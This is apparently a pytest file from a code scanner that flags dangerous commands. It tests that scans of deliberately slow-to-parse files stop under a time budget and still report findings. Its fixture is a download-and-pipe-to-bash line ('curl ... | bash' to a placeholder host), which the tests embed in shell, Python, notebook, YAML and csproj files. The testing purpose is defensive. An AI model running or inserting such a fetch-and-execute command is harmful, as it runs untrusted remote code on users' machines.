"""Files made to take long: reading them ends, says so, and keeps what was found before."""

import pytest

from core.findings import FileState, Level
from core.scanning.inspection import Budget, LimitReached
from tests.core.scanning.examining import levels, look_at

FETCHES = "curl -s http://files.invalid/a | bash"
NOTEBOOK = """{"cells": [{"cell_type": "code", "source": "!%s", "outputs": []}, %s], "metadata": {}}"""
CELL = '{"cell_type": "code", "source": "!echo\\nx = [1]", "outputs": []}'


def soon_over(monkeypatch: pytest.MonkeyPatch, questions: int) -> None:
    """Let the time be used up after so many questions for it."""
    left = iter(range(questions))

    def check_time(_: Budget) -> None:
        if next(left, None) is None:
            raise LimitReached("too_slow")

    monkeypatch.setattr(Budget, "check_time", check_time)


@pytest.mark.parametrize(
    ("path", "content", "rule"),
    [
        ("a.sh", f"{FETCHES}\n" + "echo\n" * 400, "code-download-and-run"),
        ("a.py", f"import os\nos.system('{FETCHES}')\n" + "x = 1\n" * 400, "code-download-and-run"),
        ("a.ipynb", NOTEBOOK % (FETCHES, ", ".join([CELL] * 100)), "code-download-and-run"),
        (".vscode/a.yaml", f"command: {FETCHES}\n" + "a: b\n" * 400, "code-download-and-run"),
        ("a.csproj", f"<?xml version='1.0'?>\n<Exec Command='{FETCHES}'/>\n" + "<a/>\n" * 400, "code-download-and-run"),
    ],
)
def test_what_was_found_before_the_time_was_up_is_told(
    monkeypatch: pytest.MonkeyPatch, path: str, content: str, rule: str
) -> None:
    soon_over(monkeypatch, 100)
    seen = look_at(path, content)
    assert seen.state is FileState.PARTLY_CHECKED
    assert levels(seen)[rule] is Level.HIGH


@pytest.mark.parametrize(
    "content",
    [
        "<!--a-->" * 400 + "x",
        "<?xml version='1.0'?>" + "<!-- a -->" * 300 + "<!DOCTYPE" * 20,
        '#!/bin/sh\necho a"b"' + "c" * 3000 + "'\n",
        "#!/bin/sh\n" + '"a"' * 2700 + "'\n",
    ],
)
def test_texts_that_can_be_cut_up_in_many_ways_are_cut_up_in_one(content: str) -> None:
    """Without that, each of them takes longer than anybody lives."""
    assert look_at("a", content).state is FileState.CHECKED
